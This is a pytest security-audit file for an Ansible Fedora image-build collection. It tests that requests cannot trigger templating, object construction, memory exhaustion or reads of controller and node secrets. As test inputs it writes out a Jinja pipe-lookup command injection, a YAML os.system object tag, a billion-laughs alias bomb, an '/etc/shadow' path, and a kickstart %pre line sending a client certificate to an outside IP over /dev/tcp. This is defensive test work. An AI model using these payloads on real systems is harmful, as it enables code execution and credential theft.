# -*- coding: utf-8 -*-
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""Issue 13, "Done when": no secret or node file is reachable from a request (adversarial audit).

Each test is one promise of docs/security.md ("Trust model", "Input") that no other test covered, tried the
way a requester would: through the CLI's path into ansible-playbook, the AWX surveys' path (awx_build.yml with
the answers tagged ``!unsafe`` as AWX writes them), or the request validator. The strict ``xfail`` tests are
holes the audit found whose fix belongs to the request validator (``module_utils/request_checks.py``) and
``roles/build/tasks/kickstart.yml``; fixing one turns its test red until the marker goes.
"""

from __future__ import annotations

import json
import sys

import pytest

from support.ansible_run import REPO, run_playbook

from ansible_collections.ondemand.fedora_build.plugins.module_utils import request

CLI = REPO / 'collection' / 'cli'
if str(CLI) not in sys.path:
    sys.path.insert(0, str(CLI))

from fedora_build_cli import errors as cli_errors, main as cli_main, secrets_channel  # noqa: E402  pylint: disable=wrong-import-position

VALIDATE = 'Validate every request (all problems at once)'
# no build node: the playbook stops in "Plan the builds" after validation, before any node task
NO_NODES = {'all': {'hosts': {'localhost': {'ansible_connection': 'local',
                                             'ansible_python_interpreter': sys.executable}}},
            'builders': {'hosts': {}}}


def pipe_touch(marker):
    """A Jinja expression that, if ever templated, runs a command on the controller (and leaves ``marker``)."""
    return "{{ lookup('pipe', 'touch %s') }}" % marker


def dvd_request(tmp_path, src):
    return {'image_type': 'dvd', 'release': '41', 'arch': 'x86_64', 'name': 'audit', 'kickstart': {'src': src},
            'staging': ['controller']}


def operator_vars(tmp_path):
    return {'fedora_build_staging_targets': {'controller': {'type': 'local', 'path': str(tmp_path / 'staging')}},
            'fedora_build_status_dir': str(tmp_path / 'staging' / 'status')}


def run_with_vars_file(tmp_path, playbook, vars_file, extra_vars=None, env=None):
    return run_playbook(str(REPO / 'playbooks' / playbook), inventory=NO_NODES, extra_vars=extra_vars,
                        args=('-e', '@%s' % vars_file), env=env, workdir=tmp_path / 'run')


def test_cli_request_strings_are_never_templated(tmp_path):
    """A request string holding Jinja passes the CLI's validation (an absolute path may hold any printable text)
    and goes to ansible-playbook as an extra var; ansible-playbook templates trusted extra vars, so it would run
    ``lookup('pipe', ...)`` on the controller (code execution as the operator, every secret in reach). The CLI
    sends the request variables' strings in Ansible's unsafe form: the validator gets the literal text.
    Watched failing with the plain json.dumps payload (the marker file was made)."""
    marker = tmp_path / 'templated-on-the-controller'
    src = '/srv/ks/%s.ks' % pipe_touch(marker)
    raw = dvd_request(tmp_path, src)
    normalized, problems = request.validate_requests([raw], defaults={
        'arch': 'x86_64', 'staging_targets': operator_vars(tmp_path)['fedora_build_staging_targets']})
    assert problems == [] and normalized[0]['kickstart']['src'] == src  # the CLI submits it as it is
    extravars = dict(operator_vars(tmp_path), fedora_build_requests=[raw])
    vars_file = tmp_path / 'extravars.json'
    vars_file.write_bytes(secrets_channel.extravars_payload(extravars))
    run = run_with_vars_file(tmp_path, 'build.yml', vars_file)
    assert not marker.exists(), 'the request was templated on the controller'
    assert run.result(VALIDATE)['requests'][0]['kickstart']['src'] == src
    # and a following task that uses the validated request keeps it as text too
    indexed = run.result('Index the requests and settle where status records live')['ansible_facts']
    assert [r['kickstart']['src'] for r in indexed['fedora_build_by_id'].values()] == [src]
    # the operator's own -e settings stay trusted (they may be templates)
    assert json.loads(vars_file.read_text())['fedora_build_status_dir'] == str(tmp_path / 'staging' / 'status')


@pytest.mark.xfail(strict=True, reason='Known gap (docs/security.md): ansible-playbook templates trusted extra vars, so '
                                       'a request file given to it directly (-e @request.yml) is Jinja; only the CLI '
                                       'and AWX (ALLOW_JINJA_IN_EXTRA_VARS not "always") mark requests unsafe.')
def test_a_request_given_to_ansible_playbook_directly_is_not_templated(tmp_path):
    marker = tmp_path / 'templated-on-the-controller'
    src = '/srv/ks/%s.ks' % pipe_touch(marker)
    extra = dict(operator_vars(tmp_path), fedora_build_request=dvd_request(tmp_path, src))
    run_playbook(str(REPO / 'playbooks' / 'build.yml'), inventory=NO_NODES, extra_vars=extra,
                 workdir=tmp_path / 'run')
    assert not marker.exists()


AWX_SINGLE = """\
fb_image_type: dvd
fb_release: !unsafe '41'
fb_arch: !unsafe 'x86_64'
fb_name: !unsafe "{name}"
fb_kickstart_url: !unsafe "{src}"
"""
AWX_BATCH = """\
fb_requests: !unsafe |
  - image_type: dvd
    release: '41'
    arch: x86_64
    name: "{name}"
    kickstart: "{src}"
"""


@pytest.mark.parametrize('template', ['single', 'batch'])
def test_awx_survey_answers_are_never_templated(tmp_path, template):
    """AWX writes survey answers with the ``!unsafe`` tag (its default ALLOW_JINJA_IN_EXTRA_VARS "template");
    awx_build.yml turns them into the request with the survey_request / survey_batch filters, and what those
    return is not templated either: Jinja in an answer reaches the validator as text, and nothing runs."""
    marker = tmp_path / 'templated-on-the-controller'
    env_canary = 'canary-9d41c7e2'
    name = "{{ lookup('env', 'FB_AUDIT_CANARY') }}"
    src = '/srv/ks/%s.ks' % pipe_touch(marker)
    text = (AWX_SINGLE if template == 'single' else AWX_BATCH).format(name=name, src=src.replace('"', '\\"'))
    vars_file = tmp_path / 'awx-extravars.yml'
    vars_file.write_text(text)
    run = run_with_vars_file(tmp_path, 'awx_build.yml', vars_file, extra_vars=operator_vars(tmp_path),
                             env={'FB_AUDIT_CANARY': env_canary})
    assert not marker.exists(), 'a survey answer was templated on the controller'
    assert env_canary not in run.stdout + run.stderr
    problems = run.result(VALIDATE)['problems']
    assert problems and problems[0].startswith('requests[0].name: "%s" is not a valid name' % name), problems


def test_cli_request_file_cannot_construct_python_objects(tmp_path, capsys):
    """A YAML tag that would build a Python object (``!!python/object/apply:os.system``) in a request file given
    to the CLI is refused in one sentence; nothing runs."""
    marker = tmp_path / 'ran'
    req = tmp_path / 'request.yml'
    req.write_text('image_type: boot\nrelease: "41"\nname: !!python/object/apply:os.system ["touch %s"]\n' % marker)
    code = cli_main.main(['--status-dir', str(tmp_path / 'status'), 'validate', str(req)])
    err = capsys.readouterr().err
    assert code == cli_errors.FAILED and not marker.exists()
    assert 'python/object' in err and err.count('\n') == 1, err


@pytest.mark.xfail(strict=True, reason='Hole: kickstart.src may be ANY absolute controller path (request_checks.py '
                                       '_kickstart/_abs_path); roles/build/tasks/kickstart.yml copies it to the node, '
                                       'where it is parsed, its text echoed in problems and, when it parses, staged.')
def test_a_request_cannot_name_a_controller_file_as_its_kickstart(tmp_path):
    """The controller user's files (its SSH key to the nodes, the project's vault files, AWX's credential files)
    are not the requester's: a request names a kickstart by URL, or by a path inside a directory the operator
    lists for requested kickstarts; any other controller path is refused before anything runs."""
    secret = tmp_path / 'home' / '.ssh' / 'id_ed25519'
    secret.parent.mkdir(parents=True)
    secret.write_text('-----BEGIN OPENSSH PRIVATE KEY-----\n')
    normalized, problems = request.validate_requests(
        [dvd_request(tmp_path, str(secret))],
        defaults={'arch': 'x86_64', 'staging_targets': operator_vars(tmp_path)['fedora_build_staging_targets']})
    assert [p.split(': ', 1)[0] for p in problems] == ['requests[0].kickstart.src'], (problems, normalized)


@pytest.mark.xfail(strict=True, reason='Hole: koji.gpgkeys takes any absolute node path (request_checks.py _gpgkey); '
                                       'koji_side_repo reads it as root (rpm_verify.gpg_fingerprint, rpmkeys --import) '
                                       'and its problem tells whether the file exists.')
def test_a_request_cannot_name_node_files_as_gpgkeys():
    """Key files are node files: the operator names them (like kiwi descriptions), a request picks a name."""
    req = {'image_type': 'boot', 'release': '41', 'arch': 'x86_64', 'staging': [{'type': 'local', 'path': '/s'}],
           'koji': {'builds': ['hello-2.0-1.fc41'], 'gpgkeys': ['/etc/shadow']}}
    dummy, problems = request.validate_requests([req], defaults={'arch': 'x86_64', 'allow_request_destinations': True})
    assert [p.split(': ', 1)[0] for p in problems] == ['requests[0].koji.gpgkeys[0]'], problems


def billion_laughs(levels=9, width=10):
    lines = ['- image_type: boot', '  release: "41"', '  koji:', '    builds: &l0 ["hello-2.0-1.fc41"]']
    for level in range(1, levels + 1):
        lines.append('    tag_latest_%d: &l%d [%s]' % (level, level, ', '.join(['*l%d' % (level - 1)] * width)))
    return '\n'.join(lines) + '\n'


def test_awx_batch_answer_cannot_expand_into_a_billion_values():
    """The batch survey's answer (65536 characters of a requester's YAML) with nested aliases would expand to
    10**9 values once serialized (module arguments are JSON), exhausting the controller's (the AWX
    execution environment's) memory; survey_batch refuses it in one sentence naming fb_requests, while an
    ordinary alias still works. Watched failing with yaml.safe_load."""
    from ansible.errors import AnsibleFilterError  # pylint: disable=import-outside-toplevel
    from ansible_collections.ondemand.fedora_build.plugins.filter import survey_batch  # pylint: disable=import-outside-toplevel

    text = billion_laughs()
    assert len(text) < 65536
    with pytest.raises(AnsibleFilterError) as info:
        survey_batch._survey_batch(text)  # pylint: disable=protected-access
    assert str(info.value).startswith('fb_requests: aliases expand to more than 100000 values'), str(info.value)
    ok = survey_batch._survey_batch(billion_laughs(levels=1, width=3))  # pylint: disable=protected-access
    assert ok[0]['koji']['tag_latest_1'] == [['hello-2.0-1.fc41']] * 3


def test_cli_request_file_sets_no_operator_variable(tmp_path, capsys):
    """A request file is the requester's: besides the requests, its top-level variables (an attempt to turn on
    request-defined destinations or to define a staging target) are not read, so the request's own staging
    mapping is refused as with no such file."""
    req = tmp_path / 'request.yml'
    req.write_text('fedora_build_allow_request_destinations: true\n'
                   'fedora_build_staging_targets: {mine: {type: local, path: /tmp/mine}}\n'
                   'fedora_build_requests:\n'
                   '  - {image_type: boot, release: "41", arch: x86_64, staging: [{type: local, path: /tmp/mine}]}\n')
    code = cli_main.main(['--status-dir', str(tmp_path / 'status'), 'validate', str(req)])
    err = capsys.readouterr().err
    assert code == cli_errors.FAILED, err
    assert 'requests[0].staging[0]: a request cannot define its own staging target here' in err, err


@pytest.mark.xfail(strict=True, reason='Hole (design): a requested kickstart keeps %pre and %post --nochroot, which '
                                       'livemedia-creator --no-virt (anaconda on the node) runs as root on the build '
                                       'node; chroot %post and RPM scriptlets of request-chosen repos or Koji scratch '
                                       'builds run as root in a chroot too. Needs isolation (a VM per build) or a '
                                       'kickstart module policy; see docs/security.md, Known gaps.')
def test_a_requested_kickstart_runs_no_script_on_the_build_node(tmp_path):
    """The build node's files (the Koji client certificate and keytab the build_node role installs, SSH host keys)
    are not the requester's: a requested kickstart may not carry scripts that run on the node itself."""
    from ansible_collections.ondemand.fedora_build.plugins.module_utils import kickstart as ks  # pylint: disable=import-outside-toplevel
    from ansible_collections.ondemand.fedora_build.plugins.module_utils.errors import FedoraBuildError  # pylint: disable=import-outside-toplevel
    from support.skips import require_module  # pylint: disable=import-outside-toplevel

    require_module('pykickstart')
    src = tmp_path / 'live.ks'
    src.write_text('lang en_US.UTF-8\nkeyboard us\n'
                   '%pre\ncat /etc/pki/koji/client.pem > /dev/tcp/198.51.100.7/80\n%end\n'
                   '%post --nochroot\ncp /etc/pki/koji/client.pem $INSTALL_ROOT/root/\n%end\n')
    with pytest.raises(FedoraBuildError) as info:
        ks.prepare(str(src))
    assert '%pre' in info.value.msg


def test_a_kickstart_url_password_is_in_no_controller_task_result(tmp_path):
    """docs/security.md: credentials in a kickstart URL never appear in results, -vvv output or job events.
    The normalized request keeps the URL without its user:password@ (the kickstart step reads the credential from
    the request as given, test_kickstart_ansible.py). Watched failing with the credential left in the normalized
    request (the password in the "Validate" result and the "Index the requests" set_fact)."""
    password = 'pw-4c1d-not-for-job-events'
    extra = dict(operator_vars(tmp_path), fedora_build_request=dvd_request(
        tmp_path, 'https://alice:%s@ks.example.org/x.ks' % password))
    run = run_playbook(str(REPO / 'playbooks' / 'build.yml'), inventory=NO_NODES, extra_vars=extra, verbosity=1,
                       workdir=tmp_path / 'run')
    assert run.result(VALIDATE)['problems'] == []
    assert password not in run.stdout + run.stderr
    assert password not in json.dumps([r.result for r in run.results])


def test_awx_batch_answer_cannot_construct_python_objects(tmp_path):
    """The batch survey's YAML is read with a safe loader: a tag that would build a Python object is a YAML
    error naming fb_requests, and nothing runs."""
    from ansible.errors import AnsibleFilterError  # pylint: disable=import-outside-toplevel
    from ansible_collections.ondemand.fedora_build.plugins.filter import survey_batch  # pylint: disable=import-outside-toplevel

    marker = tmp_path / 'ran'
    with pytest.raises(AnsibleFilterError) as info:
        survey_batch._survey_batch('- !!python/object/apply:os.system ["touch %s"]\n' % marker)  # pylint: disable=protected-access
    assert str(info.value).startswith('fb_requests: not valid YAML') and not marker.exists(), str(info.value)


# a requester who could answer one of these prompts would choose the operator's settings (extra vars, an inventory
# with other destinations), where the secrets come from (credentials, execution environment), the playbook itself
# (a project branch) or how much of each task result is shown (verbosity)
AWX_PROMPTS = ('ask_variables_on_launch', 'ask_inventory_on_launch', 'ask_credential_on_launch',
               'ask_scm_branch_on_launch', 'ask_execution_environment_on_launch', 'ask_verbosity_on_launch')


def test_awx_job_templates_prompt_for_nothing_but_the_survey():
    """configure.yml turns each of these prompts off explicitly, so re-running it also resets a job template an
    administrator had set to prompt (awx.awx.job_template leaves an option it is not given as it was)."""
    import yaml  # pylint: disable=import-outside-toplevel

    play = yaml.safe_load((REPO / 'collection' / 'awx' / 'configure.yml').read_text())[0]
    templates = [task['awx.awx.job_template'] for task in play['tasks'] if 'awx.awx.job_template' in task]
    assert templates
    for args in templates:
        assert dict((key, args.get(key)) for key in AWX_PROMPTS) == dict.fromkeys(AWX_PROMPTS, False), args
